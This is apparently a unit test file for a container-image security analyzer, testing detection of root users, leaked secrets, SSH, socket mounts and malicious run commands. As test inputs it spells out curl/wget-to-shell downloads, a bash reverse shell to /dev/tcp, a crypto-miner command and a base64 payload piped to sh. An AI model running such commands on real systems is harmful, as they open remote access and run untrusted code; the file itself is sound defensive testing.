"""What a configuration says about how an image will run."""

import pytest

from pratique.analyzers.configuration import check_configuration
from pratique.analyzers.run import analyze
from pratique.image import HistoryEntry, ImageConfig, RunConfig
from pratique.image.documents import Healthcheck, RootFs
from pratique.model import Finding, FindingKind
from tests.unit.analyzers.context import opened

TOKEN = "ghp_" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2"


def check(run: RunConfig | None = None, *steps: str) -> dict[str, Finding]:
    history = tuple(HistoryEntry(created_by=step) for step in steps)
    config = ImageConfig(rootfs=RootFs(), config=run or RunConfig(user="app"), history=history)
    return {finding.rule: finding for finding in check_configuration(config, [], frozenset())}


def test_good_configuration_has_no_finding() -> None:
    run = RunConfig(user="app", env=("PATH=/bin", "TOKEN=$OTHER", "PASSWORD=", "SECRET_FILE=/run/secrets/x"))
    assert check(run, "RUN apt-get update", "COPY a /b", "ADD file:0123 in /") == {}


@pytest.mark.parametrize("user", [None, "", "root", "0", "0:0", "root:wheel"])
def test_root_is_told(user: str | None) -> None:
    assert "runs-as-root" in check(RunConfig(user=user))


@pytest.mark.parametrize(
    "variable", [f"X={TOKEN}", "DB_PASSWORD=hunter2hunter", "API_KEY=9f8e7d6c5b4a", "MYAPIKEY=tr0ub4dor"]
)
def test_secret_in_the_environment_is_told_and_not_shown(variable: str) -> None:
    finding = check(RunConfig(user="app", env=(variable,)))["secret-in-environment"]
    assert finding.kind is FindingKind.SECRET
    assert variable.partition("=")[2] not in finding.evidence
    assert variable.partition("=")[0] in finding.evidence


def test_ssh_server_is_told() -> None:
    assert "runs-ssh" in check(RunConfig(user="app", cmd=("/usr/sbin/sshd", "-D")))
    assert "runs-ssh" not in check(RunConfig(user="app", cmd=("/usr/bin/sshd-report",)))


def test_engine_socket_as_a_volume_is_told() -> None:
    config = opened({}, User="app", Volumes={"/var/run/docker.sock": {}}, ExposedPorts={"22/tcp": {}}).config
    found = {finding.rule for finding in check_configuration(config, [], frozenset())}
    assert found == {"wants-engine-socket", "runs-ssh"}


@pytest.mark.parametrize(
    "step", ["/bin/sh -c curl -sSL https://a.invalid/x | bash", "RUN wget -qO- a.invalid | sh -s -- -y"]
)
def test_build_step_that_ran_a_download_is_told(step: str) -> None:
    assert "build-ran-download" in check(None, step)


@pytest.mark.parametrize(
    "run",
    [
        RunConfig(cmd=("sh", "-c", "curl -fsSL http://a.invalid/x.sh | sh")),
        RunConfig(entrypoint=("/bin/sh", "-c"), cmd=("wget -qO- a.invalid/x | bash",)),
        RunConfig(entrypoint=("sh", "-c", "wget http://a.invalid/p -O /tmp/p; chmod +x /tmp/p; /tmp/p")),
        RunConfig(env=("GO=curl a.invalid|sh",), cmd=("sh", "-c", 'eval "$GO"')),
        RunConfig(healthcheck=Healthcheck(test=("CMD-SHELL", "curl -s a.invalid | sh"))),
        RunConfig(shell=("sh", "-c", "curl -s a.invalid | sh"), healthcheck=Healthcheck(test=("CMD-SHELL", "x"))),
        RunConfig(on_build=("RUN curl a.invalid | sh",)),
        RunConfig(cmd=("bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")),
        RunConfig(cmd=("xmrig", "-o", "stratum+tcp://a.invalid:3333", "-u", "4AAAA")),
        RunConfig(cmd=("sh", "-c", f"echo {'QUJD' * 12} | base64 -d | sh")),
    ],
)
def test_attack_that_is_all_in_the_configuration_is_malware(run: RunConfig) -> None:
    assert [finding for finding in check(run).values() if finding.kind is FindingKind.MALWARE]


def test_ordinary_commands_are_no_malware() -> None:
    run = RunConfig(
        user="app",
        entrypoint=("/bin/sh", "-c", "wget -q -O /dev/null http://localhost/ready && exec app | tee /log"),
        healthcheck=Healthcheck(test=("CMD-SHELL", "curl -f http://localhost:8080/health || exit 1")),
        env=("JAVA_URL=https://a.invalid/jdk.tar.gz",),
    )
    assert check(run) == {}


def test_build_step_that_added_from_an_address_is_told() -> None:
    assert "build-added-url" in check(None, "ADD https://a.invalid/x.tar.gz /opt # buildkit")
    assert check(None, "ADD --checksum=sha256:00 x.tar.gz /opt") == {}


def test_set_uid_program_is_told_unless_a_package_owns_it() -> None:
    files: dict[str, bytes | str] = {
        "usr/bin/su": b"x",
        "usr/bin/backdoor": b"x",
        "bin": "usr/bin",
        "var/lib/dpkg/info/login.list": b"/.\n/bin\n/bin/su\n",
    }
    modes = {"usr/bin/su": 0o4755, "usr/bin/backdoor": 0o4755}
    found = [f for f in analyze(opened(files, modes)).findings if f.rule == "set-id-without-package"]
    assert [(finding.path, finding.evidence) for finding in found] == [("usr/bin/backdoor", "mode 4755, owner 0:0")]
